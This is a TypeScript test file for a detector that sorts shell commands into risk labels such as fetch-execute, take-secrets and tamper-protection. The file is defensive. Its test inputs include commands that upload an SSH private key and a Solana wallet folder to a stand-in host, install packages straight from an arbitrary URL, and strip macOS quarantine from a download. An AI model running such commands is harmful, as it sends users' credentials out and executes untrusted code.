import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyseCommand } from './analyse.ts'

const does = (text: string): readonly string[] => analyseCommand(text).does

test('a package from somebody’s address runs what is in it; one from a code host is what READMEs tell', () => {
  assert.ok(does('npx -y https://x.example/pkg.tgz').includes('fetch-execute'))
  assert.ok(does('pip install https://x.example/fix-0.1.tar.gz').includes('fetch-execute'))
  assert.deepEqual(does('pip install https://github.com/a/b/archive/main.zip'), [])
  assert.deepEqual(does('npm install typescript'), [])
})

test('keys that are sent away, in either order', () => {
  assert.ok(does('tar czf - ~/.config/solana | curl -T - https://x.example/up').includes('take-secrets'))
  assert.ok(does('curl -F f=@$HOME/.ssh/id_rsa https://x.example/u').includes('take-secrets'))
  assert.deepEqual(does('ssh -i ~/.ssh/id_ed25519 admin@bastion.example.com'), [])
  assert.deepEqual(does('curl -F file=@report.pdf https://files.example.com/upload'), [])
})

test('quarantine is taken off a download, not off what is installed', () => {
  assert.ok(does('xattr -c ~/Downloads/Fix.app').includes('tamper-protection'))
  assert.deepEqual(does('xattr -cr /Applications/MyApp.app'), [])
})
